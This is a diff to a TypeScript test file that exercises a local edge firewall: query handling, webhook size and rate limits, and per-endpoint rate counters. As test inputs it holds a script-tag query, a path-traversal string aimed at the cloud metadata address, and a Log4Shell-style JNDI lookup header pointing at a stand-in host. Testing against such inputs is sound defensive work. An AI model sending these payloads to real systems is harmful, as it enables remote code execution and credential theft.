@@ -1,10 +1,8 @@
 import { request } from "node:http";
 import { expect, test } from "vitest";
 import { makeFirewall, type FirewallRequest } from "#infra/local/edge/firewall.ts";
-import * as api from "#shared/contract/api.ts";
 import { readPaymentStatus, readVoiceCall, sendContactMessage } from "#shared/contract/api.ts";
 import { functionEndpoints } from "#shared/contract/endpoints.ts";
-import type { Endpoint } from "#shared/contract/endpoint.ts";
 import { errorBodySchema } from "#shared/contract/error-body.ts";
 import { edition } from "#test/support/edition/worker-edition.ts";
 
@@ -36,7 +34,7 @@ test.each([
 
 test.each([
   "/?q=%3Cscript%3E",
-  "/pay-now?customerName=../../&x=169.254.169.254",
+  "/contact?customerName=../../&x=169.254.169.254",
   `/?utm=${"a".repeat(2100)}`,
 ])("[OPS-01] a query such as %.40s shows the page", async (path) => {
   expect((await send("GET", path)).status).toBe(200);
@@ -44,22 +42,27 @@ test.each([
 
 const webhookBytesMax = 256 * 1024;
 
-test("[OPS-01] a webhook's content and path are not looked at, only how large it is and how often it comes", async () => {
-  const webhook = functionEndpoints.find(
-    ({ forwardsAllHeaders, maxBodyBytes }) => forwardsAllHeaders && maxBodyBytes === webhookBytesMax,
-  );
-  const post = async (bytes: number, text = "") =>
-    (
-      await fetch(`${edition.origin}${webhook?.path}`, {
-        method: "POST",
-        headers: { "x-note": "${jndi:ldap://x.example/a}" },
-        body: text + "x".repeat(bytes),
-      })
-    ).status;
-  expect([await post(0, "<script>"), await post(webhookBytesMax), await post(webhookBytesMax + 1)]).toEqual([
-    401, 401, 413,
-  ]);
-});
+/** One of those that there are. */
+const webhooks = functionEndpoints.filter(
+  ({ forwardsAllHeaders, maxBodyBytes }) => forwardsAllHeaders && maxBodyBytes === webhookBytesMax,
+);
+
+test.each(webhooks.slice(0, 1))(
+  "[OPS-01] a webhook's content and path are not looked at, only how large it is and how often it comes",
+  async ({ path }) => {
+    const post = async (bytes: number, text = "") =>
+      (
+        await fetch(`${edition.origin}${path}`, {
+          method: "POST",
+          headers: { "x-note": "${jndi:ldap://x.example/a}" },
+          body: text + "x".repeat(bytes),
+        })
+      ).status;
+    expect([await post(0, "<script>"), await post(webhookBytesMax), await post(webhookBytesMax + 1)]).toEqual(
+      [401, 401, 413],
+    );
+  },
+);
 
 /** How many of so many requests at the same time are let through. */
 const admittedOf = async (count: number, path: string, address?: string) => {
@@ -107,9 +110,8 @@ test("[OPS-01] each endpoint counts for itself, and what is none shares one coun
     while (firewall({ ...plain, path }) === undefined) admitted += 1;
     return admitted;
   };
-  const answered = Object.values<Endpoint>(api).filter((row) => row.answeredBy === "function");
-  expect(answered.map(({ path }) => count(path))).toEqual(
-    answered.map(({ ratePerAddress }) => ratePerAddress.requests),
+  expect(functionEndpoints.map(({ path }) => count(path))).toEqual(
+    functionEndpoints.map(({ ratePerAddress }) => ratePerAddress.requests),
   );
   expect([count("/api/nothing"), count("/webhooks/nothing")]).toEqual([60, 0]);
 });
